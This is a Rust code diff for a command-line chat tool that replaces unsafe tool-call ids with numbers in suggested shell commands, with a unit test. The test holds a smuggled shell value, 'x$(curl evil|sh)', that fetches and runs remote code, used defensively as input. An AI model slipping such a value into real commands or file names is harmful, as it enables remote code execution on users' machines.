@@ -15,6 +15,15 @@ struct Call<'a> {
     input: String,
 }
 
+impl Call<'_> {
+    /// What a person writes for it in a shell: its id, where that is a plain word, else its number, from 1.
+    fn handle(&self, number: usize) -> String {
+        let is_plain = |c: char| c.is_ascii_alphanumeric() || "_-.:".contains(c);
+        let plain = !self.id.is_empty() && !self.id.starts_with('-') && self.id.chars().all(is_plain);
+        if plain { self.id.to_owned() } else { number.to_string() }
+    }
+}
+
 fn calls(answer: &Message) -> Vec<Call<'_>> {
     let mut calls = Vec::new();
     for block in &answer.blocks {
@@ -34,7 +43,10 @@ pub(super) fn say(answer: &Message, out: &mut Out) -> Result<(), End> {
     if calls.is_empty() {
         return Ok(());
     }
-    let results: Vec<String> = calls.iter().map(|call| format!("--tool-result {}=TEXT", call.id)).collect();
+    let results: Vec<String> = (1..)
+        .zip(&calls)
+        .map(|(number, call)| format!("--tool-result {}=TEXT", call.handle(number)))
+        .collect();
     let conversation = answer.conversation.short();
     out.note(&format!(
         "answer with `outcrop chat --conversation {conversation} {}`, or =@FILE; on the screen with Alt+T",
@@ -49,7 +61,10 @@ pub(super) fn results(arguments: &args::Chat, path: &[&Message]) -> Result<Vec<B
     let bad =
         |why: String, hint: String| Error::new(ErrorKind::Invalid, "answering the calls of tools", why, hint);
     let named = || {
-        let all: Vec<String> = calls.iter().map(|call| format!("{} ({})", call.id, call.name)).collect();
+        let all: Vec<String> = (1..)
+            .zip(&calls)
+            .map(|(number, call)| format!("{} ({})", call.handle(number), call.name))
+            .collect();
         if all.is_empty() {
             "The last answer calls none.".to_owned()
         } else {
@@ -62,7 +77,9 @@ pub(super) fn results(arguments: &args::Chat, path: &[&Message]) -> Result<Vec<B
             .split_once('=')
             .ok_or_else(|| bad(format!("--tool-result {said} is not of the form ID=TEXT"), named()))?;
         let of_name: Vec<_> = calls.iter().filter(|call| call.name == of).collect();
-        let call = match (calls.iter().find(|call| call.id == of), &of_name[..]) {
+        let of_number = || of.parse::<usize>().ok().and_then(|number| calls.get(number.checked_sub(1)?));
+        let of_id = calls.iter().find(|call| call.id == of);
+        let call = match (of_id.or_else(of_number), &of_name[..]) {
             (Some(call), _) => call,
             (None, [call]) => *call,
             (None, []) => return Err(bad(format!("no call {of:?} waits for a result"), named())),
@@ -71,19 +88,39 @@ pub(super) fn results(arguments: &args::Chat, path: &[&Message]) -> Result<Vec<B
         if given.iter().any(|(id, _)| *id == call.id) {
             return Err(bad(format!("{of} is answered twice"), named()));
         }
-        let text = match text.strip_prefix('@') {
+        // What is in a file is not looked at: it may begin with a picture of Markdown.
+        let (text, is_error) = match text.strip_prefix('!') {
+            Some(why) => (why.trim_start(), true),
+            None => (text, false),
+        };
+        let content = match text.strip_prefix('@') {
             Some(file) => text_file(Path::new(file))?,
             None => text.to_owned(),
         };
-        let (content, is_error) = match text.strip_prefix('!') {
-            Some(why) => (why.trim_start().to_owned(), true),
-            None => (text, false),
-        };
         given.push((call.id, Block::ToolResult { id: call.id.to_owned(), content, is_error }));
     }
-    if let Some(open) = calls.iter().find(|call| given.iter().all(|(id, _)| *id != call.id)) {
-        let hint = format!("Add --tool-result {}=TEXT.", open.id);
-        return Err(bad(format!("{} ({}) has no result", open.id, open.name), hint));
+    if let Some((number, open)) =
+        (1..).zip(&calls).find(|(_, call)| given.iter().all(|(id, _)| *id != call.id))
+    {
+        let handle = open.handle(number);
+        let hint = format!("Add --tool-result {handle}=TEXT.");
+        return Err(bad(format!("{handle} ({}) has no result", open.name), hint));
     }
     Ok(given.into_iter().map(|(_, block)| block).collect())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn only_a_plain_word_of_a_model_stands_in_a_command_for_a_shell() {
+        let handle = |id| Call { id, name: "n", input: String::new() }.handle(2);
+        for plain in ["call_1", "toolu_01A-b", "f.g:0"] {
+            assert_eq!(handle(plain), plain);
+        }
+        for other in ["x$(curl evil|sh)", "a b", "", "-rf", "a=b", "漢"] {
+            assert_eq!(handle(other), "2");
+        }
+    }
 }
